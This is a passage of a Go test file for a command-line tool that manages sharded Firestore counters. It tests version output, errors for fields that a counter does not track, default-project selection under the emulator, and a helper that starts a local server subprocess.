	t.Parallel()
	out, _, code := counters(t, "version")
	if code != 0 || !strings.HasPrefix(out, "counters ") || !strings.Contains(out, runtime.Version()) {
		t.Errorf("exit code %d, %q", code, out)
	}
	if flag, _, code := counters(t, "--version"); code != 0 || flag != out {
		t.Errorf("--version: exit code %d, %q, want %q", code, flag, out)
	}
}

// What is asked of a counter by a field that it hasn't is no 0, and nothing is written: it is said
// what the counter has.
func TestFieldsThatAreNotCountedHere(t *testing.T) {
	firestore := startFirestore(t)
	fs := firestore.Client(t, "demo-counters")
	must(t, "create", "rate", "--shards", "1", "--total", "150")
	post := map[string]any{"title": "A title", "stars": 4, "counter_rollup": map[string]any{"num_shards": 1, "updated_at": time.Now()}}
	for path, data := range map[string]map[string]any{
		"posts/p": post, "posts/new": {"title": "Never counted", "stars": 4}, "counters/snippet": {"num_shards": 1}, "counters/snippet/shards/0": {"count": 3},
	} {
		if _, err := fs.Doc(path).Set(t.Context(), data); err != nil {
			t.Fatal(err)
		}
	}
	before := map[string]map[string]any{}
	shards := []string{"counters/rate", "counters/rate/shards/0", "posts/p"}
	for _, path := range shards {
		doc, err := fs.Doc(path).Get(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		before[path] = doc.Data()
	}
	hosted := " --counter-path posts/{post} --hosted --fields likes"
	for _, c := range []struct{ args, out, err string }{
		{args: "get rate", out: "150\n"},
		{args: "get rate --fields likes", err: "not counted here: likes; its document has total"},
		{args: "get rate --fields likes --exact", err: "not counted here: likes; its document has total"},
		{args: "get rate --fields likes --json", err: "not counted here: likes"},
		{args: "watch rate --fields likes", err: "not counted here: likes"},
		{args: "get rate --fields total=count,likes", out: "total 150, likes not counted here\n"},
		{args: "get rate --fields total=count,likes --exact", out: "total 150, likes not counted here\n"},
		{args: "list --fields likes", out: "COUNTER  TOTAL                   SHARDS\nrate     likes not counted here  1\nsnippet  0                       1\n"},
		{args: "inc rate --fields likes", err: "not counted here: likes; its document has total"},
		{args: "dec rate --fields likes --by 3", err: "not counted here: likes"},
		{args: "inc rate --fields total=count,likes --by likes=2", err: "not counted here: likes"},
		{args: "inc rate --fields total=count,likes --by total=1,likes=2", err: "not counted here: likes"},
		{args: "inc rate --fields likes,total=count", err: "not counted here: likes"},
		{args: "join rate likes alice --fields likes", err: "not counted here: likes"},
		{args: "get p" + hosted, err: "not counted here: likes; its document has stars"},
		{args: "inc p" + hosted, err: "not counted here: likes"},
		{args: "get new" + hosted, out: "0\n"}, // nothing was ever counted there, and may be now
		{args: "get snippet", out: "0\n"},
		{args: "get snippet --exact", out: "3\n"},
	} {
		out, errOut, code := counters(t, strings.Fields(c.args)...)
		if out != c.out || !strings.Contains(errOut, c.err) || (code == 0) != (c.err == "") {
			t.Errorf("%s: exit code %d, %q, error %q; want %q, %q", c.args, code, out, errOut, c.out, c.err)
		}
	}
	for _, path := range shards {
		doc, err := fs.Doc(path).Get(t.Context())
		if err != nil || !reflect.DeepEqual(doc.Data(), before[path]) {
			t.Errorf("%s was %v and is %v, %v", path, before[path], doc.Data(), err)
		}
	}
	if members, err := fs.Collection("counters/rate/likes_members").Documents(t.Context()).GetAll(); err != nil || len(members) != 0 {
		t.Errorf("%d members, %v", len(members), err)
	}
}

// With FIRESTORE_EMULATOR_HOST alone everything is in one project: what a function counts, a
// command and a library see.
func TestOneDefaultProject(t *testing.T) {
	firestore := startFirestore(t)
	wantSum := func(who string, want int64) {
		t.Helper()
		sum, err := firestore.Client(t, "demo-counters").Collection("counters").Doc("a").Collection("shards").NewAggregationQuery().WithSum("count", "sum").Get(t.Context())
		if got := fmt.Sprint(sum["sum"]); err != nil || !strings.Contains(got, fmt.Sprintf("integer_value:%d", want)) {
			t.Errorf("%s: the shards in demo-counters hold %s, %v; want %d", who, got, err, want)
		}
	}
	must(t, "create", "a")
	if resp := serve(t, "Increment"); resp.StatusCode != http.StatusOK {
		t.Errorf("Increment answers %d", resp.StatusCode)
	}
	wantSum("counters serve", 1)
	client, err := shards.Open(t.Context(), shards.Config{})
	if err != nil {
		t.Fatal(err)
	}
	defer client.Close()
	counter, err := client.Counter("a")
	if err != nil {
		t.Fatal(err)
	}
	if err := counter.Add(t.Context(), 1); err != nil {
		t.Error(err)
	}
	wantSum("shards.Open", 2)
	roller, err := rollup.Open(t.Context(), rollup.Config{})
	if err != nil {
		t.Fatal(err)
	}
	defer roller.Close()
	if _, err := roller.Reconcile(t.Context(), "a", rollup.ReconcileOptions{}); err != nil {
		t.Error(err)
	}
	if out, errOut, _ := counters(t, "get", "a"); out != "2\n" {
		t.Errorf("counters get: %q, %s", out, errOut)
	}

	// And it is the environment's, where that names one.
	t.Setenv("GOOGLE_CLOUD_PROJECT", "p")
	named, err := shards.Open(t.Context(), shards.Config{})
	if err != nil {
		t.Fatal(err)
	}
	defer named.Close()
	if named.Project() != "p" {
		t.Errorf("shards.Open: project %q, want p", named.Project())
	}
}

// serve runs a function in a process of its own, as a container does, posts one request to it, for the counter a, and
// ends it well with SIGTERM.
func serve(t *testing.T, function string) *http.Response {
	t.Helper()
	port, err := freeport.Find()
	if err != nil {
		t.Fatal(err)
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(self, "serve", function, "--port", port, "--host", "127.0.0.1")
	cmd.Env = append(os.Environ(), programVariable+"=1")
	cmd.Stdout, cmd.Stderr = t.Output(), t.Output()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = cmd.Process.Kill() }()
	var resp *http.Response
	for until := time.Now().Add(time.Minute); ; time.Sleep(20 * time.Millisecond) {
		if resp, err = http.Post("http://127.0.0.1:"+port+"/a", "", nil); err == nil || time.Now().After(until) {
			break
		}
	}
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if err := cmd.Wait(); err != nil {
		t.Errorf("ended with %v", err)
	}
	return resp
}
